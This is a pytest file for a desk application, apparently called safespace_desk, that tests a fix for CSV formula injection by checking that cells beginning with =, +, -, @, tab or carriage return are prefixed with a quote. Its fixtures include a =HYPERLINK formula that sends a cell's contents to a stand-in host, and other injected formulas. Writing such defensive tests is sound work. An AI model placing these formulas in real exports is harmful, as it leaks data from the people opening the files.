"""Issue 14, finding 9: CSV formula injection.

A gender typed as ``=HYPERLINK(...)`` reached the report CSV as a live formula, and the outcomes CSV
wrote guest names raw. Every CSV the program writes escapes a cell that starts with = + - @, a tab
or a carriage return (a single quote first, as OWASP suggests), through one helper.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from safespace_desk.domain.guests import GuestDetails
from safespace_desk.reports.csv_safe import csv_text, safe_cell
from safespace_desk.reports.export import figures_to_csv
from safespace_desk.reports.figures import compute_figures
from safespace_desk.reports.period import month_range
from safespace_desk.services import guests, messages, visits
from safespace_desk.services.context import DeskContext
from safespace_desk.ui.messages.actions import ServiceActions
from safespace_desk.ui.messages.outcomes_view import AgencyOutcomesView
from tests.services.frontdesk_helpers import LONDON

FORMULA = '=HYPERLINK("http://e.example/?"&A1,"Go")'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_live_formula(text: str) -> None:
    cells = _cells(text)
    assert cells, "the CSV is empty: the test would prove nothing"
    live = [c for c in cells if c.startswith(DANGEROUS_STARTS)]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1"])
def test_safe_cell_prefixes_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value,expected", [("Kez", "Kez"), ("", ""), (None, ""), (3, "3"), (-2, "-2"),
                                            (2.5, "2.5"), ("O'Neil", "O'Neil")])
def test_safe_cell_leaves_ordinary_values_alone(value: Any, expected: str) -> None:
    # Numbers the program itself counted stay numbers; only text can carry a formula.
    assert safe_cell(value) == expected


def test_csv_text_escapes_every_cell_header_included() -> None:
    text = csv_text(("=a", "b"), [("@x", 1), ("ok", "-1")])
    assert _cells(text) == ["'=a", "b", "'@x", "1", "ok", "'-1"]


def test_report_csv_escapes_a_formula_typed_as_gender(desk: DeskContext, clock: Any) -> None:
    record, _ = guests.add_guest(desk, GuestDetails(preferred_name="Fen Formula", gender=FORMULA))
    visits.sign_in(desk, record.id, "self")
    now = clock.now().astimezone(LONDON)
    text = figures_to_csv(compute_figures(desk, month_range(now.year, now.month, LONDON)))
    assert "'" + FORMULA.lower() in _cells(text)  # genders are counted lower-cased
    _assert_no_live_formula(text)


def test_report_csv_escapes_a_formula_in_an_agency_name(desk: DeskContext, clock: Any) -> None:
    agency, _ = messages.add_agency(desk, "@Evil Agency")
    messages.post_message(desk, agency_id=agency.id, for_name="Fen", body="Hello")
    now = clock.now().astimezone(LONDON)
    text = figures_to_csv(compute_figures(desk, month_range(now.year, now.month, LONDON)))
    assert any(c.startswith("'@Evil Agency") for c in _cells(text))
    _assert_no_live_formula(text)


def test_outcomes_csv_escapes_guest_names_and_notes(qtbot: Any, desk: DeskContext, tmp_path: Path,
                                                    clock: Any) -> None:
    gp = next(a.id for a in messages.list_agencies(desk) if a.name == "GP")
    record, _ = guests.add_guest(desk, GuestDetails(preferred_name=FORMULA))
    messages.post_message(desk, agency_id=gp, guest_id=record.id, body="Appointment")
    message_id, _ = messages.post_message(desk, agency_id=gp, for_name="+44 7700 900123", body="Ring back")
    messages.not_passed_on(desk, message_id, "-not here, try later")
    view = AgencyOutcomesView(ServiceActions(desk))
    qtbot.addWidget(view)
    today = clock.now().astimezone(LONDON).date()
    view.prepare(today)
    view.start.setDate(date(today.year, today.month, 1))
    view.load()
    assert len(view.rows) == 2
    text = view.save_csv(tmp_path / "outcomes.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA in _cells(text)  # the name is kept, just made inert
    _assert_no_live_formula(text)
